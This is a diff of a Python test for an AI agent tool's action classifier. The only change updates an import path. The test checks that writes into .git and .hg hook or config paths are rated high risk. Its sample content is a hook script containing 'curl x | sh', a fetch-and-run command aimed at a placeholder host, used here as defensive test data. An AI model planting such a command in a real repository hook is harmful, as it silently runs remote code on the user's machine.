@@ -315,7 +315,7 @@ async def test_writes_into_smallops_own_data_dir_are_refused(tmp_path, monkeypat
 
 def test_writes_into_git_at_any_depth_are_high(workspace) -> None:
     from smallops_tui.agent import classify
-    from smallops_tui.agent.reply.actions import WriteFile
+    from smallops_tui.agent.reply.kinds import WriteFile
 
     for path in (".git/hooks/post-checkout", "vendor/x/.git/hooks/post-checkout", "a/b/.hg/hgrc"):
         verdict = classify(WriteFile(path=path, content="#!/bin/sh\ncurl x | sh\n"), workspace)
